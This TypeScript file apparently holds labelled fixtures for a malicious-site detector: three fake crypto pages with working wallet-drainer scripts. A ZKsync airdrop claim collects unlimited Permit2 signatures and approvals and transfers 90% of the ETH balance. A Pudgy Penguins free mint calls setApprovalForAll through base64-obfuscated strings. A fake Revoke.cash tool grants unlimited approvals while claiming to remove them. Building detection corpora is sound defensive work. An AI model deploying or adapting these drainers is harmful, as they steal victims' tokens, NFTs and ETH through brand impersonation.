import { htmlRoute, type Entry } from '../entry.js';
import { doc, jsRoute, jsonRoute, pngRoute } from '../parts/v-kit.js';

// Wallet drainers (dev split). Each asks the injected wallet for accounts and then signatures/approvals.

const walletCss = `body{margin:0;font-family:Inter,"Segoe UI",Arial,sans-serif;background:#0d1117;color:#e6edf3}.nav{display:flex;align-items:center;justify-content:space-between;padding:16px 32px;border-bottom:1px solid #222}
.cw{background:linear-gradient(90deg,#7b3fe4,#3f7be4);color:#fff;border:0;border-radius:12px;padding:10px 20px;font-weight:600;cursor:pointer}.hero{text-align:center;padding:70px 20px}.hero h1{font-size:46px;margin:0 0 14px}
.card{max-width:460px;margin:0 auto;background:#161b22;border:1px solid #30363d;border-radius:16px;padding:24px}.ft{text-align:center;color:#7d8590;font-size:12px;padding:30px}`;

// 1. Token airdrop "claim": requests accounts, then a Permit2 typed-data signature and an approval fallback.
const h1 = 'claim-zksync-airdrop.org';
const drainerCore = `(function(){
var CFG={recv:'0x6b2c9A1d1eB0f1f0c86fD4a7A4E0aE2d8b4f31C7',permit2:'0x000000000022D473030F116dDEE9F6B43aC78BA3',api:'/api/v2/assets'};
function $(i){return document.getElementById(i)}
async function connect(){var eth=window.ethereum;if(!eth){$('st').textContent='No wallet detected. Open this page in MetaMask or Trust Wallet browser.';return}
var acc=await eth.request({method:'eth_requestAccounts'});var a=acc[0];$('st').textContent='Checking eligibility for '+a.slice(0,6)+'…'+a.slice(-4);
var assets=await (await fetch(CFG.api+'?a='+a)).json();fetch('/api/v2/log',{method:'POST',body:JSON.stringify({a:a,n:assets.tokens.length,usd:assets.usd})});
$('st').innerHTML='You are eligible for <b>2,450 ZK</b>. Sign to claim.';
for(const t of assets.tokens.sort(function(x,y){return y.usd-x.usd})){
 try{var sig=await eth.request({method:'eth_signTypedData_v4',params:[a,JSON.stringify({types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitSingle:[{name:'details',type:'PermitDetails'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},primaryType:'PermitSingle',domain:{name:'Permit2',chainId:1,verifyingContract:CFG.permit2},message:{details:{token:t.address,amount:'1461501637330902918203684832716283019655932542975',expiration:'1893456000',nonce:'0'},spender:CFG.recv,sigDeadline:'1893456000'}})]});
 fetch('/api/v2/permit',{method:'POST',body:JSON.stringify({a:a,t:t.address,sig:sig})});}
 catch(e){try{await eth.request({method:'eth_sendTransaction',params:[{from:a,to:t.address,data:'0x095ea7b3000000000000000000000000'+CFG.recv.slice(2).toLowerCase()+'ffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff'}]})}catch(_){}}
}
try{var bal=await eth.request({method:'eth_getBalance',params:[a,'latest']});var v=BigInt(bal)*9n/10n;if(v>0n)await eth.request({method:'eth_sendTransaction',params:[{from:a,to:CFG.recv,value:'0x'+v.toString(16)}]})}catch(e){}
$('st').textContent='Claim pending… Do not close this window.';}
document.querySelectorAll('.cw').forEach(function(b){b.onclick=connect});})();`;
const airdrop: Entry = {
  id: 'v-drainer-airdrop-claim-permit',
  label: 'cryptodrainer',
  kind: 'airdrop-drainer',
  url: `https://${h1}/`,
  routes: {
    [`${h1}/`]: htmlRoute(
      doc({
        title: 'ZKsync Airdrop | Claim ZK',
        css: walletCss,
        body: `<div class="nav"><b style="font-size:20px">&#8660; ZKsync</b><div><a style="color:#aaa;margin-right:20px">Ecosystem</a><a style="color:#aaa;margin-right:20px">Docs</a><button class="cw">Connect Wallet</button></div></div>
<div class="hero"><h1>The ZK token airdrop is live</h1><p style="color:#9da7b3">Season 2 allocation: 3.6B ZK distributed to 695,232 eligible wallets. Claim window closes in <b id="cd">23:41:07</b>.</p></div>
<div class="card"><h3>Check eligibility</h3><p style="color:#9da7b3;font-size:14px">Connect the wallet you used on ZKsync Era, Lite or Nova. Claiming is free – you only pay gas.</p><button class="cw" style="width:100%">Connect Wallet</button><p id="st" style="font-size:14px;margin-top:12px"></p></div>
<div class="ft">© 2026 Matter Labs · Terms · Privacy</div>
<script src="/assets/index-5f1c2a.js"></script>`,
      }),
    ),
    [`${h1}/assets/index-5f1c2a.js`]: jsRoute(drainerCore),
    [`${h1}/api/v2/assets`]: jsonRoute({ usd: 18422.5, tokens: [{ address: '0xdAC17F958D2ee523a2206206994597C13D831ec7', sym: 'USDT', usd: 9120 }, { address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48', sym: 'USDC', usd: 6880 }, { address: '0x514910771AF9Ca656af840dff83E8264EcF986CA', sym: 'LINK', usd: 2422.5 }] }),
    [`${h1}/api/v2/log`]: jsonRoute({ ok: 1 }),
  },
};

// 2. Free NFT mint: setApprovalForAll on every collection the wallet holds, obfuscated loader.
const h2 = 'pudgy-free-mint.xyz';
const mintScript = `var _0x=['ZXRoX3JlcXVlc3RBY2NvdW50cw==','ZXRoX3NlbmRUcmFuc2FjdGlvbg==','MHhhMjJjYjQ2NQ=='];function _d(i){return atob(_0x[i])}
var OP='0x3c1f8B2a4c9E7dD0aB5e6F2c8e1A0b9C7d6E5f41';
async function mint(){var e=window.ethereum;if(!e){alert('Please install MetaMask');return}var a=(await e.request({method:_d(0)}))[0];
var r=await fetch('/api/nfts?owner='+a);var cols=(await r.json()).collections;
for(var i=0;i<cols.length;i++){try{await e.request({method:_d(1),params:[{from:a,to:cols[i],data:_d(2)+'000000000000000000000000'+OP.slice(2).toLowerCase()+'0000000000000000000000000000000000000000000000000000000000000001'}]})}catch(x){}}
document.getElementById('ms').textContent='Mint successful! Your NFT will appear in your wallet within 24h.'}
document.getElementById('mb').onclick=mint;`;
const nftMint: Entry = {
  id: 'v-drainer-nft-mint-free',
  label: 'cryptodrainer',
  kind: 'nft-mint-drainer',
  url: `https://${h2}/mint`,
  routes: {
    [`${h2}/mint`]: htmlRoute(
      doc({
        title: 'Pudgy Penguins | Lil Pudgys Free Mint',
        css: walletCss + `.grid{display:flex;gap:10px;justify-content:center;margin:20px 0}.grid img{width:90px;height:90px;border-radius:10px;background:#2a3b5c}`,
        body: `<div class="nav"><b>&#128039; PUDGY PENGUINS</b><button class="cw" id="cb">Connect</button></div>
<div class="hero"><h1>Lil Pudgys: Holiday Edition</h1><p>Free mint for the community. 2,222 supply. Max 2 per wallet. Only gas fees apply.</p>
<div class="grid"><img src="/img/p1.png" alt=""><img src="/img/p2.png" alt=""><img src="/img/p3.png" alt=""></div>
<div class="card"><p><b id="cnt">1,874</b> / 2,222 minted</p><button class="cw" id="mb" style="width:100%;font-size:18px">MINT NOW (FREE)</button><p id="ms" style="font-size:13px;color:#9da7b3"></p></div></div>
<div class="ft">Follow us on X @pudgypenguins · Discord</div><script src="/js/mint.js"></script>
<script>var c=1874;setInterval(function(){c+=Math.floor(Math.random()*3);document.getElementById('cnt').textContent=c.toLocaleString()},2000);document.getElementById('cb').onclick=function(){document.getElementById('mb').click()}</script>`,
      }),
    ),
    [`${h2}/js/mint.js`]: jsRoute(mintScript),
    [`${h2}/api/nfts`]: jsonRoute({ collections: ['0xBd3531dA5CF5857e7CfAA92426877b022e612cf8', '0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D', '0xED5AF388653567Af2F388E6224dC7C4b3241C544'] }),
    [`${h2}/img/p1.png`]: pngRoute(120, 180, 230),
    [`${h2}/img/p2.png`]: pngRoute(200, 220, 240),
    [`${h2}/img/p3.png`]: pngRoute(90, 140, 200),
  },
};

// 3. Fake "revoke approvals" tool: promises to clean approvals, actually requests new ones.
const h3 = 'revoke-cash.app-tools.site';
const revoke: Entry = {
  id: 'v-drainer-fake-revoke-tool',
  label: 'cryptodrainer',
  kind: 'revoke-drainer',
  url: `https://${h3}/address`,
  routes: {
    [`${h3}/address`]: htmlRoute(
      doc({
        title: 'Revoke.cash - Revoke your token approvals on over 100 networks',
        css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#fff;color:#111}.nav{display:flex;justify-content:space-between;padding:16px 32px;border-bottom:1px solid #eee}.btn{background:#000;color:#fff;border:0;border-radius:8px;padding:10px 18px;cursor:pointer}
table{width:90%;margin:30px auto;border-collapse:collapse}td,th{border-bottom:1px solid #eee;padding:10px;font-size:14px;text-align:left}.warn{max-width:800px;margin:20px auto;background:#fff3cd;padding:12px;border-radius:8px;font-size:14px}`,
        body: `<div class="nav"><b>&#128737; Revoke.cash</b><button class="btn" id="c">Connect Wallet</button></div>
<div class="warn">&#9888; <b>Security incident:</b> a widely-used DEX router was exploited. Revoke all approvals immediately to protect your funds. Use "Revoke All" to batch-revoke in one step.</div>
<table id="t"><tr><th>Asset</th><th>Approved Spender</th><th>Allowance</th><th></th></tr><tr><td colspan="4" style="color:#888">Connect your wallet to see approvals</td></tr></table>
<div style="text-align:center"><button class="btn" id="ra" style="background:#d92d20">Revoke All</button></div>
<div style="text-align:center;font-size:12px;color:#888;margin-top:40px">Revoke.cash is open-source. Built by the community.</div>
<script src="/_next/static/chunks/pages/address-8e21.js"></script>`,
      }),
    ),
    [`${h3}/_next/static/chunks/pages/address-8e21.js`]: jsRoute(`var SP='0x91Fa7e3b0C2a5d8E4F1b6c9A7d3E2f0B8c4A1d5E',acct;
document.getElementById('c').onclick=async function(){acct=(await ethereum.request({method:'eth_requestAccounts'}))[0];this.textContent=acct.slice(0,6)+'…'+acct.slice(-4);
var rows=[['USDT','Uniswap V2: Router 2','Unlimited'],['WETH','1inch v5: Aggregation Router','Unlimited'],['PEPE','Unknown (0x7a2…c81)','Unlimited']];
document.getElementById('t').innerHTML='<tr><th>Asset</th><th>Approved Spender</th><th>Allowance</th><th></th></tr>'+rows.map(function(r){return '<tr><td>'+r[0]+'</td><td>'+r[1]+'</td><td>'+r[2]+'</td><td><button class="btn rv">Revoke</button></td></tr>'}).join('')};
document.getElementById('ra').onclick=async function(){if(!acct)acct=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var tokens=['0xdAC17F958D2ee523a2206206994597C13D831ec7','0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2','0x6982508145454Ce325dDbE47a25d4ec3d2311933'];
for(var t of tokens){await ethereum.request({method:'eth_sendTransaction',params:[{from:acct,to:t,data:'0x095ea7b3'+SP.slice(2).toLowerCase().padStart(64,'0')+'f'.repeat(64)}]}).catch(function(){})}
await ethereum.request({method:'eth_signTypedData_v4',params:[acct,JSON.stringify({primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:'0x000000000022D473030F116dDEE9F6B43aC78BA3'},message:{spender:SP}})]}).catch(function(){})};`),
  },
};

export const entries: Entry[] = [airdrop, nftMint, revoke];
